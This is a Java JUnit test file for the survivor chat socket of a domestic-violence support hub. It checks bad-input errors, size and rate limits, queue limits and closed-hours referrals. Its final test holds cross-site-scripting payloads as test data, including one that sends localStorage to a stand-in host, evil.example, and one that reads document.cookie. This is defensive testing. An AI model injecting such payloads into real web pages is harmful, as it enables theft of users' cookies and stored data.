package org.hearthhub.ws;

import io.vertx.core.Vertx;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import org.hearthhub.settings.ProgramSettings;
import org.hearthhub.testing.TestHub;
import org.hearthhub.testing.TestHubExtension;
import org.hearthhub.testing.WsClient;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.LocalTime;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Every error the survivor socket can answer (docs/protocol.md), each followed by proof that the same
 * socket still works: a bad frame costs the sender one error, never the chat.
 */
class SurvivorBadInputTest {
    @RegisterExtension
    final TestHubExtension hubs = TestHubExtension.startedByTest();
    Vertx vertx;
    TestHub hub;
    private int okCount;

    private TestHub hub() throws Exception {
        return hub(Map.of());
    }

    private TestHub hub(Map<String, String> env) throws Exception {
        hub = hubs.start(env);
        return hub;
    }

    /** A survivor socket that has started a chat, so every check below can send a real message. */
    private WsClient chattingSurvivor() throws Exception {
        WsClient survivor = hub.survivor();
        survivor.send("start", "lang", "en");
        survivor.await("started");
        return survivor;
    }

    private static JsonObject assertError(WsClient ws, String code) {
        JsonObject error = ws.await("error");
        assertEquals(code, error.getString("code"), "error frame: " + error);
        String message = error.getString("message");
        assertNotNull(message, "every error carries a human message");
        assertFalse(message.isBlank() || message.startsWith("error."), "a translated message, not a key: " + message);
        return error;
    }

    /** The socket still does real work: a fresh message is acknowledged. */
    private void assertStillUsable(WsClient survivor) {
        String clientId = "ok-" + (++okCount);
        survivor.send("message", "clientId", clientId, "text", "still here");
        JsonObject ack = survivor.await("ack");
        assertEquals(clientId, ack.getString("clientId"));
        assertTrue(ack.getLong("seq") > 0);
        assertFalse(survivor.isClosed());
    }

    private void assertBadRawFrames(WsClient survivor, String expectedCode, String... frames) {
        for (String frame : frames) {
            survivor.sendRaw(frame);
            assertError(survivor, expectedCode);
            assertStillUsable(survivor);
        }
    }

    @Test
    void malformedJsonIsABadRequestAndSocketStaysUsable() throws Exception {
        hub();
        WsClient survivor = chattingSurvivor();
        assertBadRawFrames(survivor, "bad_request",
                "{not json", "{\"type\":\"message\"", "", "   ", "type=message", "{\"type\":\"message\",}");
    }

    @Test
    void jsonThatIsNotAnObjectIsABadRequest() throws Exception {
        hub();
        WsClient survivor = chattingSurvivor();
        assertBadRawFrames(survivor, "bad_request",
                "[]", "[{\"type\":\"typing\"}]", "42", "\"typing\"", "null", "true");
    }

    @Test
    void aFrameWithAKeyGivenTwiceIsABadRequestNamingItAndNothingIsSent() throws Exception {
        hub();
        WsClient survivor = chattingSurvivor();
        String[][] framesAndKeys = {
                {"{\"type\":\"message\",\"clientId\":\"d1\",\"text\":\"hello\",\"text\":\"something else\"}", "text"},
                {"{\"type\":\"message\",\"type\":\"typing\",\"clientId\":\"d2\",\"text\":\"hello\"}", "type"},
                {"{\"type\":\"typing\",\"x\":{\"a\":[{\"b\":1,\"b\":2}]}}", "x.a.0.b"},
                {"{\"type\":\"message\",\"a\":1,\"b\":2,\"c\":3,\"d\":4,\"e\":5,\"f\":6,\"g\":7,\"h\":8,\"i\":9,\"a\":10,"
                        + "\"clientId\":\"d3\",\"text\":\"hello\"}", "a"},
        };
        for (String[] frameAndKey : framesAndKeys) {
            survivor.sendRaw(frameAndKey[0]);
            JsonObject error = assertError(survivor, "bad_request");
            assertEquals("The key \"" + frameAndKey[1] + "\" is given twice in the request. Send each key once.", error.getString("message"));
            assertStillUsable(survivor); // an ack for the refused frame would come first and fail this
        }
    }

    @Test
    void frameWithoutAStringTypeIsABadRequest() throws Exception {
        hub();
        WsClient survivor = chattingSurvivor();
        assertBadRawFrames(survivor, "bad_request",
                "{}", "{\"text\":\"hi\",\"clientId\":\"x\"}", "{\"type\":null}", "{\"type\":5}", "{\"type\":[\"message\"]}",
                "{\"type\":{\"name\":\"message\"}}");
    }

    @Test
    void deeplyNestedJsonIsABadRequest() throws Exception {
        hub();
        WsClient survivor = chattingSurvivor();
        String nested = "{\"type\":\"typing\",\"x\":" + "[".repeat(5000) + "]".repeat(5000) + "}";
        assertBadRawFrames(survivor, "bad_request", nested);
    }

    @Test
    void fieldsOfTheWrongTypeAreBadRequests() throws Exception {
        hub();
        WsClient survivor = chattingSurvivor();
        assertBadRawFrames(survivor, "bad_request",
                "{\"type\":\"message\",\"clientId\":\"w1\",\"text\":5}",
                "{\"type\":\"message\",\"clientId\":\"w2\",\"text\":[\"hi\"]}",
                "{\"type\":\"message\",\"clientId\":\"w3\",\"text\":{\"html\":\"hi\"}}",
                "{\"type\":\"message\",\"clientId\":7,\"text\":\"hi\"}",
                "{\"type\":\"message\",\"text\":\"no clientId\"}",
                "{\"type\":\"message\",\"clientId\":\"   \",\"text\":\"blank clientId\"}",
                "{\"type\":\"message\",\"clientId\":\"" + "c".repeat(65) + "\",\"text\":\"clientId too long\"}");
    }

    @Test
    void startAndResumeWithWrongFieldTypesAreBadRequests() throws Exception {
        hub();
        WsClient survivor = hub.survivor();
        for (String frame : List.of(
                "{\"type\":\"start\",\"lang\":5}",
                "{\"type\":\"start\",\"lang\":[\"en\"]}",
                "{\"type\":\"resume\",\"token\":12345,\"lastSeq\":0}",
                "{\"type\":\"resume\",\"token\":\"abc\",\"lastSeq\":\"3\"}",
                "{\"type\":\"resume\",\"token\":\"abc\",\"lastSeq\":1.5}")) {
            survivor.sendRaw(frame);
            assertError(survivor, "bad_request");
        }
        survivor.send("start", "lang", "en");
        assertEquals(1, survivor.await("started").getInteger("position"), "the socket still starts a chat");
    }

    @Test
    void unknownTypeIsAnsweredWithUnknownType() throws Exception {
        hub();
        WsClient survivor = chattingSurvivor();
        assertBadRawFrames(survivor, "unknown_type",
                "{\"type\":\"hello\"}", "{\"type\":\"MESSAGE\",\"clientId\":\"u1\",\"text\":\"hi\"}", "{\"type\":\"\"}",
                "{\"type\":\"shift.start\"}", "{\"type\":\"accept\",\"conversation\":\"x\"}");
    }

    @Test
    void oversizedFrameIsRefusedAndSocketStaysUsable() throws Exception {
        hub();
        int max = hub.hub.config().limits().maxFrameBytes();
        WsClient survivor = chattingSurvivor();

        survivor.sendRaw(frameOfBytes(max + 1));
        assertError(survivor, "too_large");
        assertStillUsable(survivor);

        // Few characters, many bytes: the limit is in bytes, as operators configure it.
        String euros = "€".repeat(max / 3 + 10);
        survivor.sendRaw(new JsonObject().put("type", "typing").put("pad", euros).encode());
        assertError(survivor, "too_large");
        assertStillUsable(survivor);

        survivor.sendRaw(frameOfBytes(max * 3));
        assertError(survivor, "too_large");
        assertStillUsable(survivor);
    }

    @Test
    void frameOfExactlyTheLimitIsAccepted() throws Exception {
        hub();
        int max = hub.hub.config().limits().maxFrameBytes();
        WsClient survivor = chattingSurvivor();
        String frame = frameOfBytes(max);
        assertEquals(max, frame.getBytes(StandardCharsets.UTF_8).length);
        survivor.sendRaw(frame);
        assertEquals("edge", survivor.await("ack").getString("clientId"));
        survivor.expectNone("error", 200);
    }

    /** A valid message frame padded with an ignored field to exactly {@code bytes} UTF-8 bytes. */
    private static String frameOfBytes(int bytes) {
        String head = "{\"type\":\"message\",\"clientId\":\"edge\",\"text\":\"hi\",\"pad\":\"";
        String tail = "\"}";
        return head + "x".repeat(bytes - head.length() - tail.length()) + tail;
    }

    @Test
    void messageTextOverFourThousandCharsIsTooLarge() throws Exception {
        hub();
        WsClient survivor = chattingSurvivor();
        survivor.send("message", "clientId", "long", "text", "a".repeat(4001));
        assertError(survivor, "too_large");
        assertStillUsable(survivor);

        survivor.send("message", "clientId", "longest", "text", "a".repeat(4000));
        assertEquals("longest", survivor.await("ack").getString("clientId"), "4,000 characters is still allowed");
    }

    @Test
    void emptyTextIsABadRequest() throws Exception {
        hub();
        WsClient survivor = chattingSurvivor();
        survivor.send("message", "clientId", "e1", "text", "");
        assertError(survivor, "bad_request");
        assertStillUsable(survivor);
        survivor.send("message", "clientId", "e2", "text", " \n\t ");
        assertError(survivor, "bad_request");
        assertStillUsable(survivor);
        survivor.send("message", "clientId", "e3");
        assertError(survivor, "bad_request");
        assertStillUsable(survivor);
    }

    @Test
    void unknownResumeTokenIsRefusedAndSocketCanStillResumeOrStart() throws Exception {
        hub();
        JsonObject started;
        try (WsClient first = hub.survivor()) {
            first.send("start", "lang", "en");
            started = first.await("started");
        }
        WsClient survivor = hub.survivor();
        survivor.send("resume", "token", "no-such-token", "lastSeq", 0);
        assertError(survivor, "unknown_token");
        survivor.send("resume", "token", "", "lastSeq", 0);
        assertError(survivor, "unknown_token");
        survivor.send("resume", "lastSeq", 0);
        assertError(survivor, "unknown_token");
        survivor.send("resume", "token", started.getString("conversation"), "lastSeq", 0);
        assertError(survivor, "unknown_token");

        survivor.send("resume", "token", started.getString("token"), "lastSeq", 0);
        assertEquals(started.getString("conversation"), survivor.await("resumed").getString("conversation"));
        assertStillUsable(survivor);
    }

    @Test
    void chatFramesBeforeStartAreBadRequestsAndStartTwiceIsRefused() throws Exception {
        hub();
        WsClient survivor = hub.survivor();
        survivor.send("message", "clientId", "early", "text", "hello?");
        assertError(survivor, "bad_request");
        survivor.send("typing");
        assertError(survivor, "bad_request");
        survivor.send("end");
        assertError(survivor, "bad_request");

        survivor.send("start", "lang", "en");
        survivor.await("started");
        survivor.send("start", "lang", "en");
        assertError(survivor, "bad_request");
        survivor.send("resume", "token", "anything", "lastSeq", 0);
        assertError(survivor, "bad_request");
        assertStillUsable(survivor);
    }

    @Test
    void binaryFramesAreBadRequests() throws Exception {
        hub();
        WsClient survivor = chattingSurvivor();
        survivor.sendBinary("{\"type\":\"message\",\"clientId\":\"b\",\"text\":\"hi\"}".getBytes(StandardCharsets.UTF_8));
        assertError(survivor, "bad_request");
        assertStillUsable(survivor);
        survivor.sendBinary(new byte[]{0, 1, 2, (byte) 0xff});
        assertError(survivor, "bad_request");
        assertStillUsable(survivor);
    }

    @Test
    void frameFloodIsAnsweredOnceASecondCountedAndTheSocketRecovers() throws Exception {
        hub(Map.of("HEARTH_METRICS_TOKEN", TestHub.METRICS_TOKEN));
        WsClient survivor = chattingSurvivor(); // its start is the first frame of this second
        // Frames that are always answered when read, so the answers show exactly which were read.
        for (int i = 0; i < 60; i++) survivor.sendRaw("{\"type\":\"nudge\"}");
        awaitFramesOverBudget(hub, "survivor", 41);
        hub.clock.advance(Duration.ofSeconds(1));
        assertStillUsable(survivor);
        assertEquals(Map.of("unknown_type", 19L, "rate_limited", 1L), errorCounts(survivor),
                "20 frames a second are read; the other 41 cost one answer, not 41");

        hub.clock.advance(Duration.ofSeconds(1));
        for (int i = 0; i < 30; i++) survivor.sendRaw("{\"type\":\"nudge\"}");
        awaitFramesOverBudget(hub, "survivor", 51);
        hub.clock.advance(Duration.ofSeconds(1));
        assertStillUsable(survivor);
        assertEquals(Map.of("unknown_type", 20L, "rate_limited", 1L), errorCounts(survivor), "each second gets its one answer");
    }

    @Test
    void binaryFloodCountsAgainstTheBudgetToo() throws Exception {
        hub(Map.of("HEARTH_METRICS_TOKEN", TestHub.METRICS_TOKEN));
        WsClient survivor = chattingSurvivor();
        for (int i = 0; i < 60; i++) survivor.sendBinary(new byte[]{1});
        awaitFramesOverBudget(hub, "survivor", 41);
        hub.clock.advance(Duration.ofSeconds(1));
        assertStillUsable(survivor);
        assertEquals(Map.of("bad_request", 19L, "rate_limited", 1L), errorCounts(survivor));
    }

    /**
     * Waits until the hub has dropped this many frames over the flood budget (counted in /metrics): what is
     * dropped is not answered, so this is how a test knows the hub has read the whole flood.
     */
    static void awaitFramesOverBudget(TestHub hub, String side, int frames) throws Exception {
        String series = "hearth_frames_over_budget_total{side=\"" + side + "\"}";
        double seen = -1;
        for (long deadline = System.currentTimeMillis() + 5000; System.currentTimeMillis() < deadline; Thread.sleep(20)) {
            seen = TestHub.metric(hub.metrics(), series);
            if (seen >= frames) break;
        }
        assertEquals(frames, seen, "frames dropped over the budget");
    }

    /** Every error frame received so far, counted by code. */
    static Map<String, Long> errorCounts(WsClient ws) {
        return ws.drain("error").stream().collect(Collectors.groupingBy(e -> e.getString("code"), Collectors.counting()));
    }

    @Test
    void messagesPerMinuteAreLimitedPerConversation() throws Exception {
        hub(Map.of("HEARTH_LIMITS_SURVIVOR_MESSAGES_PER_MINUTE", "3"));
        WsClient survivor = chattingSurvivor();
        for (int i = 1; i <= 3; i++) {
            survivor.send("message", "clientId", "m" + i, "text", "message " + i);
            assertEquals("m" + i, survivor.await("ack").getString("clientId"));
        }
        survivor.send("message", "clientId", "m4", "text", "one too many");
        assertError(survivor, "rate_limited");

        WsClient other = chattingSurvivor();
        other.send("message", "clientId", "o1", "text", "a different conversation has its own budget");
        assertEquals("o1", other.await("ack").getString("clientId"));

        hub.clock.advance(Duration.ofSeconds(61));
        survivor.send("message", "clientId", "m4", "text", "one too many");
        assertEquals(4L, survivor.await("ack").getLong("seq"), "the refused message was not stored, so it gets the next seq");
    }

    @Test
    void fullQueueAnswersQueueFullUntilAPlaceFrees() throws Exception {
        hub(Map.of("HEARTH_QUEUE_MAX_LENGTH", "1"));
        WsClient first = chattingSurvivor();
        WsClient second = hub.survivor();
        second.send("start", "lang", "en");
        assertError(second, "queue_full");
        second.send("start", "lang", "en");
        assertError(second, "queue_full");

        first.send("end");
        first.await("ended");
        second.send("start", "lang", "en");
        assertEquals(1, second.await("started").getInteger("position"));
        assertStillUsable(second);
    }

    @Test
    void closedHoursAnswerWithReferralsInTheSurvivorsLanguage() throws Exception {
        hub();
        // The test clock reads Monday 2026-11-23 15:00 UTC; open only on Tuesdays.
        ProgramSettings open = TestHub.await(hub.hub.settingsStore().programSettings());
        ProgramSettings tuesdaysOnly = new ProgramSettings(open.timeZone(),
                List.of(new ProgramSettings.WeeklySlot(2, LocalTime.of(9, 0), LocalTime.of(17, 0))),
                open.holidays(), open.referrals(), open.cannedResponses(), open.widget(), open.retention());
        TestHub.await(hub.hub.settingsStore().saveProgramSettings(tuesdaysOnly));
        TestHub.await(hub.hub.settings().reload());

        WsClient survivor = hub.survivor();
        survivor.send("start", "lang", "en");
        JsonObject closed = survivor.await("closed");
        JsonArray referrals = closed.getJsonArray("referrals");
        assertFalse(referrals.isEmpty());
        assertEquals("National Domestic Violence Hotline", referrals.getJsonObject(0).getString("name"));
        assertEquals("1-800-799-7233", referrals.getJsonObject(0).getString("phone"));
        assertEquals("2026-11-24T09:00:00Z", closed.getString("opensAt"));
        survivor.expectNone("started", 100);

        survivor.send("start", "lang", "es");
        JsonObject cerrado = survivor.await("closed");
        assertEquals("Línea Nacional de Violencia Doméstica",
                cerrado.getJsonArray("referrals").getJsonObject(0).getString("name"));

        TestHub.await(hub.hub.settingsStore().saveProgramSettings(open));
        TestHub.await(hub.hub.settings().reload());
        survivor.send("start", "lang", "en");
        assertEquals(1, survivor.await("started").getInteger("position"), "the same socket starts once the program opens");
    }

    @Test
    void scriptPayloadsTravelVerbatimInBothDirections() throws Exception {
        hub();
        List<String> payloads = List.of(
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(document.cookie)>",
                "</script><script>fetch('//evil.example/'+localStorage.x)</script>",
                "<svg/onload=alert(1)> javascript:alert(1) {{7*7}} ${7*7} #{7*7}",
                "&lt;b&gt;already escaped&lt;/b&gt; &amp; &#60;",
                "line one\nline two\t\"quoted\" \\ back\\slash \u0000 nul",
                "\u202Eright-to-left override\u202C 🙂 ünïcödé");
        WsClient advocate = hub.advocateOnShift("maria");
        WsClient survivor = hub.survivor();
        survivor.send("start", "lang", "en");
        JsonObject started = survivor.await("started");
        String id = started.getString("conversation");
        advocate.send("accept", "conversation", id);
        advocate.await("conversation");
        survivor.await("assigned");

        int seq = 0;
        for (String payload : payloads) {
            survivor.send("message", "clientId", "s" + seq, "text", payload);
            survivor.await("ack");
            int fromSurvivor = ++seq;
            assertEquals(payload, advocate.awaitMatching("message", m -> m.getInteger("seq") == fromSurvivor).getString("text"));

            advocate.send("message", "conversation", id, "clientId", "a" + seq, "text", payload);
            advocate.await("ack");
            assertEquals(payload, survivor.await("message").getString("text"));
            seq++;
        }

        // Replays from the store are verbatim too: a resumed widget and a console that takes over the chat.
        survivor.kill();
        WsClient resumed = hub.survivor();
        resumed.send("resume", "token", started.getString("token"), "lastSeq", 0);
        resumed.await("resumed");
        for (int i = 0; i < payloads.size() * 2; i++) assertEquals(payloads.get(i / 2), resumed.await("message").getString("text"));

        WsClient ana = hub.advocateOnShift("ana");
        advocate.send("transfer", "conversation", id, "to", "ana");
        JsonArray transcript = ana.await("conversation").getJsonArray("messages");
        assertEquals(payloads.size() * 2, transcript.size());
        for (int i = 0; i < transcript.size(); i++) {
            assertEquals(payloads.get(i / 2), transcript.getJsonObject(i).getString("text"));
        }
    }
}
